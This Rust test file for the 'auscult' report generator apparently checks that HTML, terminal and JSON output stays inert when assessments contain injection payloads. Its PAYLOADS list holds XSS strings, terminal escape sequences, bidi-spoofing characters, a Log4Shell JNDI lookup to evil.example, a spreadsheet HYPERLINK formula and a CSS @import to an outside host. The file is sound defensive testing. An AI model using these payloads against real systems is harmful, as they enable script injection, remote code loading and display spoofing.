//! Whatever stands in an assessment, nothing of it becomes active in any report.

use std::collections::HashSet;
use std::sync::LazyLock;

use auscult_model::assessment::Assessment;
use auscult_report::terminal::{TerminalOptions, write as terminal, write_diff, write_places};
use auscult_report::{html, json};
use serde_json::Value;

use crate::{edith, markup};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- -->",
    "]]>",
    "&lt;script&gt;",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{7}\u{8}\u{7f}",
    "first\r\nsecond\rthird",
    "a\0b",
    "\t\t\t",
    "\u{fffd}",
    "\u{202e}gnp.exe\u{202c}",
    "\u{2066}\u{2067}\u{2069}\u{200f}",
    "zero\u{200b}\u{200d}\u{feff}width",
    "line\u{2028}separator\u{2029}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{ $n }",
    "=HYPERLINK(\"https://evil.example\")",
    "p\u{430}ypal.ex\u{430}mple",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
    "';}@import 'https://evil.example';",
    "\\u{1b}[2J",
    "🏥字",
];

/// The status quo with a change to every string that is free, and to the keys that others refer to.
fn changed(change: &dyn Fn(&str) -> String) -> Assessment {
    static FREE: LazyLock<HashSet<String>> = LazyLock::new(free_places);
    let mut value = serde_json::to_value(edith::status_quo()).unwrap();
    visit(&mut value, &mut String::new(), &mut |path, text| {
        if FREE.contains(path) { change(text) } else { text.to_owned() }
    });
    for map in ["requirements", "frameworks"] {
        let Value::Object(entries) = &mut value[map] else { panic!("{map} is a map") };
        *entries = std::mem::take(entries).into_iter().map(|(key, v)| (change(&key), v)).collect();
    }
    serde_json::from_value(value).unwrap()
}

/// Places of the contract where an arbitrary text may stand.
fn free_places() -> HashSet<String> {
    let original = serde_json::to_value(edith::status_quo()).unwrap();
    let mut places = HashSet::new();
    visit(&mut original.clone(), &mut String::new(), &mut |path, text| {
        places.insert(path.to_owned());
        text.to_owned()
    });
    places.retain(|place| {
        let mut probe = original.clone();
        visit(&mut probe, &mut String::new(), &mut |here, text| {
            if here == place { "neither a word nor a time".to_owned() } else { text.to_owned() }
        });
        serde_json::from_value::<Assessment>(probe).is_ok()
    });
    assert!(places.len() > 50, "{places:?}");
    places
}

/// Calls with each string and its path; entries of lists and of maps with free keys share a path.
fn visit(value: &mut Value, path: &mut String, change: &mut dyn FnMut(&str, &str) -> String) {
    let length = path.len();
    match value {
        Value::String(text) => *text = change(path, text),
        Value::Array(items) => {
            path.push_str("/*");
            items.iter_mut().for_each(|item| visit(item, path, change));
        }
        Value::Object(entries) => {
            for (key, item) in entries.iter_mut() {
                let shared = path.ends_with("/requirements")
                    || path.ends_with("/frameworks")
                    || path.ends_with("/args");
                path.push('/');
                path.push_str(if shared { "*" } else { key });
                visit(item, path, change);
                path.truncate(path.rfind('/').unwrap_or(0));
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
    path.truncate(length);
}

/// Characters that move, hide or turn round what a person sees.
fn is_active(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Two ways to put a payload into an assessment: in the place of everything, and behind everything.
fn victims(payload: &str) -> [Assessment; 2] {
    [changed(&|_| payload.to_owned()), changed(&|text| format!("{text}{payload}"))]
}

#[test]
fn payloads_do_arrive() {
    let [all, behind] = victims("<script>");
    assert_eq!(all.scenario.title, "<script>");
    assert_eq!(
        behind.rulings[0].reason.message.args["what"],
        format!("{}<script>", behind.rulings[0].reason.because.trim_end_matches("<script>"))
    );
    let shown = html::write(&behind, None, &edith::catalogue());
    assert!(shown.contains("Edith at home&#60;script&#62;") || shown.contains("Edith at home&lt;script&gt;"));
}

#[test]
fn html_stays_inert() {
    let catalogue = edith::catalogue();
    // A payload with a slash names another node in a flow, so the picture may change; nothing else may.
    let outline = |assessment: &Assessment| -> Vec<String> {
        let tags = markup::read(&html::write(assessment, None, &catalogue));
        let drawn = |t: &markup::Tag| matches!(t.name.as_str(), "path" | "g" | "rect" | "text" | "use");
        tags.into_iter().filter(|t| !drawn(t)).map(|t| t.name).collect()
    };
    let harmless = outline(&changed(&|text| format!("{text}harmless")));
    for payload in PAYLOADS {
        let [all, behind] = victims(payload);
        for victim in [&all, &behind] {
            let page = html::write(victim, Some(victim), &catalogue);
            assert!(!page.chars().any(|c| is_active(c) && c != '\n'), "{payload:?}");
            for (_, value) in markup::read(&page).iter().flat_map(|t| &t.attributes) {
                assert!(!value.contains("alert") && !value.contains("://"), "{payload:?} in {value:?}");
            }
        }
        assert!(outline(&behind) == harmless, "{payload:?} changes what the page is made of");
    }
}

#[test]
fn the_terminal_stays_inert() {
    let catalogue = edith::catalogue();
    let options = TerminalOptions { width: 80, color: false };
    for payload in PAYLOADS {
        for victim in victims(payload) {
            let report = terminal(&victim, &catalogue, &options);
            let diff = write_diff(&victim, &edith::target(), &catalogue, &options);
            let places = write_places(&[(payload, payload)], &catalogue, &options);
            for text in [report, diff, places] {
                assert!(!text.chars().any(|c| is_active(c) && c != '\n'), "{payload:?}");
                let wide = |c: char| if matches!(c, '🏥' | '字') { 2 } else { 1 };
                for line in text.lines() {
                    assert!(line.chars().map(wide).sum::<usize>() <= 80, "{payload:?}: {line}");
                }
            }
        }
    }
}

#[test]
fn json_reads_back_and_stays_inert() {
    for payload in PAYLOADS {
        for victim in victims(payload) {
            let text = json::write(&victim);
            assert!(!text.chars().any(|c| is_active(c) && c != '\n'), "{payload:?}");
            assert_eq!(serde_json::from_str::<Assessment>(&text).unwrap(), victim);
        }
    }
}

#[test]
fn a_line_of_a_megabyte_stays_small() {
    let mut victim = edith::status_quo();
    victim.rulings[0].trials[0].reason.because = "A".repeat(1 << 20);
    victim.rulings[0].trials[0].reason.message.id = "none.none".to_owned();
    victim.nodes[0].name = "B".repeat(1 << 20);
    let catalogue = edith::catalogue();
    assert!(html::write(&victim, None, &catalogue).len() < 200_000);
    assert!(terminal(&victim, &catalogue, &TerminalOptions { width: 80, color: false }).len() < 60_000);
}
